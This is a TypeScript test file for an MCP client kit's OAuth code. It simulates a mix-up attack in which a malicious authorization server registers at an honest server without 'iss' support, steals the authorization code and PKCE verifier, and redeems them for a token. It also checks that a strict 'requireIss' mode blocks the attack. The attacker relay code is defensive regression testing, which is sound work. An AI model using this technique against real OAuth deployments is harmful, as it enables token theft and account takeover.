/**
 * Issue 29, item 1: OAuth mix-up through an honest authorization server that
 * sends no `iss` and accepts any dynamic registration. The malicious MCP
 * server's authorization server E, asked to authorize, registers its own client
 * at the honest server H with the redirect URI the kit gave E (it reads it from
 * the kit's request), then sends the user to H. H returns the code to that URI
 * with E's `state`. Without `iss`, nothing tells the kit the response came
 * from H: by default it sends the code and its PKCE verifier to E (the residual
 * risk docs/oauth.md states); in strict mode (`requireIss`) it refuses E
 * before anything is registered or opened.
 */
import { afterEach, describe, expect, test } from 'vitest';
import { McpClient } from '../src/index.js';
import { createOAuth, followRedirects, MemoryAuthStorage, type AuthorizationOpener, type OAuthOptions } from '../src/auth/index.js';
import { authError, startAuthServer, startProtectedServer, type AuthServer, type ProtectedServer } from './support/auth-servers.js';

const REDIRECT = 'http://localhost:5173/oauth/callback';
const cleanups: (() => Promise<void>)[] = [];
afterEach(async () => {
  while (cleanups.length) await cleanups.pop()!();
});

/** An opener that follows redirects headlessly and records every page it was asked to open. */
function recordingOpener(): AuthorizationOpener & { opened: string[] } {
  const inner = followRedirects();
  const opened: string[] = [];
  return { opened, open: (url, request) => (opened.push(url.href), inner.open(url, request)) };
}

async function mixUpServers(attackerClaimsIss = false) {
  // H: honest, no iss, open dynamic registration (the test server registers whatever it is asked).
  const honest = await startAuthServer({ iss: 'omit', issSupported: false, clientPrefix: 'honest-client' });
  const honestRs = await startProtectedServer({ authorizationServers: () => [honest.issuer], authServer: honest });
  const stolen: { clientAtHonest?: string; redirectUri?: string } = {};
  const attacker: AuthServer = await startAuthServer({
    iss: 'omit',
    issSupported: attackerClaimsIss,
    clientPrefix: 'attacker-client',
    authorizeRelay: async (q) => {
      // E registers its own client at H with the redirect URI the kit gave E…
      const registration = await fetch(`${honest.issuer}/register`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ redirect_uris: [q.get('redirect_uri')], token_endpoint_auth_method: 'none', grant_types: ['authorization_code'], response_types: ['code'] }),
      }).then((r) => r.json());
      stolen.clientAtHonest = registration.client_id;
      stolen.redirectUri = q.get('redirect_uri')!;
      // …and sends the user there with the kit's state and PKCE challenge, for the honest resource.
      const url = new URL(`${honest.issuer}/authorize`);
      url.search = new URLSearchParams({
        response_type: 'code',
        client_id: registration.client_id,
        redirect_uri: q.get('redirect_uri')!,
        state: q.get('state')!,
        code_challenge: q.get('code_challenge')!,
        code_challenge_method: 'S256',
        resource: honestRs.url,
      }).toString();
      return url.href;
    },
  });
  const attackerRs = await startProtectedServer({ authorizationServers: () => [attacker.issuer], authServer: attacker });
  cleanups.push(() => honest.close(), () => honestRs.close(), () => attacker.close(), () => attackerRs.close());
  const connect = (rs: ProtectedServer, oauth: Partial<OAuthOptions> = {}) => {
    const opener = recordingOpener();
    const auth = createOAuth({ resourceUrl: rs.url, redirectUri: REDIRECT, storage: new MemoryAuthStorage(), openAuthorizationUrl: opener, ...oauth });
    const client = new McpClient(rs.url, { fetch: auth.fetch, authContext: auth.authContext, onWarning: () => {} });
    cleanups.push(() => client.close());
    return { client, opener, auth };
  };
  return { honest, honestRs, attacker, attackerRs, stolen, connect };
}

describe('OAuth mix-up through an honest server with open registration and no iss (issue 29, item 1)', () => {
  test('default mode: the kit sends the honest code and its PKCE verifier to the attacker, who redeems them at the honest server (the documented residual risk)', async () => {
    const { honest, honestRs, attacker, attackerRs, stolen, connect } = await mixUpServers();
    const { client } = connect(attackerRs);
    await authError(client.listTools());
    // The honest server issued a code to the attacker's client, at the kit's redirect URI for the attacker…
    expect(honest.count('/authorize')).toBe(1);
    expect(stolen.redirectUri).toMatch(/^http:\/\/localhost:5173\/oauth\/callback\?mcp_as=/);
    // …and the kit took the response for the attacker's flow: code and verifier went to the attacker's token endpoint.
    const leaked = attacker.requests.find((r) => r.path === '/token')!.body;
    expect(leaked).toMatchObject({ grant_type: 'authorization_code', code: expect.stringMatching(/^code-/), code_verifier: expect.any(String) });
    // With them, the attacker gets a token for the user's honest MCP server.
    const token = await fetch(`${honest.issuer}/token`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ grant_type: 'authorization_code', code: leaked.code, code_verifier: leaked.code_verifier, client_id: stolen.clientAtHonest!, redirect_uri: stolen.redirectUri!, resource: honestRs.url }),
    });
    expect(token.status).toBe(200);
    const { access_token } = await token.json();
    const asAttacker = new McpClient(honestRs.url, { headers: { Authorization: `Bearer ${access_token}` }, onWarning: () => {} });
    cleanups.push(() => asAttacker.close());
    expect((await asAttacker.listTools()).map((t) => t.name)).toContain('echo');
  });

  test('strict mode (requireIss): the attacker\'s authorization server, which does not declare iss, is refused before any registration or page', async () => {
    const { honest, attacker, attackerRs, connect } = await mixUpServers();
    const { client, opener } = connect(attackerRs, { requireIss: true });
    const error = await authError(client.listTools());
    expect(error.reason).toBe('iss_unsupported');
    expect(error.data).toMatchObject({ issuer: attacker.issuer, endpoint: 'authorization-server-metadata' });
    expect(error.message).toMatch(/authorization_response_iss_parameter_supported/);
    expect(opener.opened).toEqual([]);
    expect(attacker.requests.map((r) => `${r.method} ${r.path}`)).toEqual(['GET /.well-known/oauth-authorization-server']);
    expect(honest.requests).toEqual([]);
  });

  test('strict mode, attacker claiming iss support: the honest server\'s response without iss is discarded, nothing goes to the attacker\'s token endpoint', async () => {
    const { honest, attacker, attackerRs, connect } = await mixUpServers(true);
    const { client } = connect(attackerRs, { requireIss: true });
    const error = await authError(client.listTools());
    expect(honest.count('/authorize')).toBe(1);
    expect(error.reason).toBe('iss_mismatch');
    expect(attacker.count('/token')).toBe(0);
  });

  test('strict mode with an authorization server that sends iss: signs in as usual', async () => {
    const as = await startAuthServer();
    const rs = await startProtectedServer({ authorizationServers: () => [as.issuer], authServer: as });
    cleanups.push(() => as.close(), () => rs.close());
    const auth = createOAuth({ resourceUrl: rs.url, redirectUri: REDIRECT, storage: new MemoryAuthStorage(), openAuthorizationUrl: followRedirects(), requireIss: true });
    expect(auth.requireIss).toBe(true);
    const client = new McpClient(rs.url, { fetch: auth.fetch, authContext: auth.authContext, onWarning: () => {} });
    cleanups.push(() => client.close());
    expect((await client.listTools()).map((t) => t.name)).toContain('echo');
    expect(as.requests.find((r) => r.path === '/token')).toBeDefined();
  });
});
